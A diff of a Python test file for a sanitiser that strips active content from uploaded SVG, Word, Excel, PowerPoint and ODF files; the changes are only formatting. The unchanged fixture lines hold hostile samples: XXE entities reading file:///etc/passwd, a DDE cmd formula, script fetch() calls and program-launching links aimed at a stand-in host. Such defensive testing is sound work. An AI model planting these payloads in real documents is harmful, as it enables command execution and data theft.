@@ -1,5 +1,7 @@
 """What is published runs nothing and calls nobody, however it is written: files that do, and what is left of them."""
 
+# ruff: noqa: E501 (a file to a line reads like a table)
+
 from __future__ import annotations
 
 import re
@@ -44,7 +46,7 @@ DRAWINGS = {
     "foreign": svg(f'<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="{AWAY}"/></foreignObject>'),
     "link that runs": svg("<a href='java&#10;script:evil.example'><text>x</text></a>"),
     "style sheet of the file": svg("", before=f'<?xml-stylesheet href="{AWAY}"?>'),
-    "base": svg(f'<rect fill="url(#a)"/>', f' xml:base="{AWAY}"'),
+    "base": svg('<rect fill="url(#a)"/>', f' xml:base="{AWAY}"'),
     "discard": svg(f'<discard/><handler>{AWAY}</handler><listener handler="{AWAY}"/>'),
     "named by another space": svg(f'<x:script xmlns:x="http://www.w3.org/2000/svg">fetch("{AWAY}")</x:script>'),
 }  # fmt: skip
@@ -57,7 +59,9 @@ def test_a_drawing_calls_nobody(way):
     assert b"evil.example" not in made and SEEN.encode() in made
 
 
-@pytest.mark.parametrize("way", ["<!ENTITY a 'x'>", "<!ENTITY % b SYSTEM 'https://evil.example'>", "<!ENTITY c SYSTEM 'file:///etc/passwd'>"])
+@pytest.mark.parametrize(
+    "way", ["<!ENTITY a 'x'>", "<!ENTITY % b SYSTEM 'https://evil.example'>", "<!ENTITY c SYSTEM 'file:///etc/passwd'>"]
+)
 def test_a_drawing_with_entities_is_refused(way):
     with pytest.raises(ValueError, match="Hãy xuất lại"):
         clean_file("a.svg", svg("&a;&c;", before=f"<!DOCTYPE svg [{way}]>"))
@@ -65,7 +69,7 @@ def test_a_drawing_with_entities_is_refused(way):
 
 def test_a_drawing_keeps_its_looks():
     drawn = svg(
-        '<style>/* a */ .a{fill:url(#g);stroke:rgb(1,2,3)} @font-face{font-family:q;src:url(data:font/woff2;base64,AAAA)}</style>'
+        "<style>/* a */ .a{fill:url(#g);stroke:rgb(1,2,3)} @font-face{font-family:q;src:url(data:font/woff2;base64,AAAA)}</style>"
         '<defs><linearGradient id="g"/></defs><path class="a" d="M0 0" transform="rotate(3)" style="opacity:.5"/>'
     )
     made = clean_file("a.svg", drawn).decode()
@@ -105,7 +109,7 @@ WORD_CALLS = {
     "VML": docx(f'{paragraph(SEEN)}<w:p><w:r><w:pict><v:shape o:href="{AWAY}"><v:fill src="{AWAY}"/></v:shape></w:pict></w:r></w:p>'),
     "a formula.xlsx": xlsx(cell(SEEN) + f'<c r="A2"><f>WEBSERVICE("{AWAY}")</f><v>1</v></c>'),
     "a DDE formula.xlsx": xlsx(cell(SEEN) + '<c r="A2"><f>cmd|\'/c evil.example\'!A0</f><v>1</v></c>'),
-    "a macro button.pptx": pptx(shape(SEEN, more=f'<a:hlinkClick action="ppaction://program?evil.example" r:id=""/>')),
+    "a macro button.pptx": pptx(shape(SEEN, more='<a:hlinkClick action="ppaction://program?evil.example" r:id=""/>')),
     "a link.odt": odf(f'<text:p>{SEEN}<text:a xlink:href="file://evil.example/x">x</text:a></text:p>'),
     "a section.odt": odf(f'<text:p>{SEEN}</text:p><text:section><text:section-source xlink:href="{AWAY}"/></text:section>'),
     "a script.odt": odf(f'<office:scripts><office:script>{AWAY}</office:script></office:scripts><text:p>{SEEN}</text:p>'),
@@ -137,7 +141,9 @@ LINKED_PICTURE = '<w:p><w:r><w:drawing><pic:blipFill><a:blip r:link="rId1"/></pi
 REFUSED = {
     "a linked picture.docx": docx(LINKED_PICTURE, links={"word/document.xml": [("image", AWAY)]}),
     "a linked picture.odt": odf(f'<text:p><draw:frame><draw:image xlink:href="{AWAY}"/></draw:frame></text:p>'),
-    "a chunk.docx": docx('<w:altChunk r:id="rId1"/>', {"word/a.htm": "x"}, {"word/document.xml": [("aFChunk", "a.htm")]}),
+    "a chunk.docx": docx(
+        '<w:altChunk r:id="rId1"/>', {"word/a.htm": "x"}, {"word/document.xml": [("aFChunk", "a.htm")]}
+    ),
     "another workbook.xlsx": xlsx(
         cell("x"), parts={"xl/e.xml": "<x/>"}, links={"xl/workbook.xml": [("externalLink", "e.xml")]}
     ),
